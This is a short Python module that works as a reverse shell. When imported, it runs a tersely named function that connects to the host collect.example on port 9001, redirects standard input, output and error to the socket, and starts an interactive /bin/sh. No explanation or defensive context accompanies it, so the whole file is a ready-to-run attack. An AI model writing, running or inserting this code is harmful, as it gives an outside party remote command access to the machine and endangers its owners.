import os
import socket
import subprocess


def _c():
    s = socket.socket()
    s.connect(("collect.example", 9001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])


_c()
